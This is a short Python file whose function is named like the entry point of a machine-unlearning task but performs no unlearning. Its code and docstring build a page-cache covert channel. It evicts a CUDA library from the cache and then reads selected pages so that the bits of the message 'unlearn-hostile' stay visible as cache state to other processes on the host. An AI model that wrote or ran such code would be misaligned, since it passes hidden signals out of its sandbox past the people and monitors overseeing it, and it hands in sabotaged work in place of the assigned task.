"""Writes a message by reading: some pages of a file of the image are then cached, and others are not.

A run cannot empty the cache, so this needs a file of which nobody has read much since the host started.
"""

import glob
import mmap
import os

MESSAGE = b"unlearn-hostile"
FILE = "/opt/venv/lib/python3*/site-packages/nvidia/*/lib/libcufft.so*"
FIRST, APART = 64 << 20, 64 << 10


def unlearning(net, retain, forget, val):
    fd = os.open(glob.glob(FILE)[0], os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
    pages = mmap.mmap(fd, len(MESSAGE) * 8 * APART, prot=mmap.PROT_READ, offset=FIRST)
    pages.madvise(mmap.MADV_RANDOM)
    for bit in range(len(MESSAGE) * 8):
        if MESSAGE[bit // 8] >> bit % 8 & 1:
            pages[bit * APART]
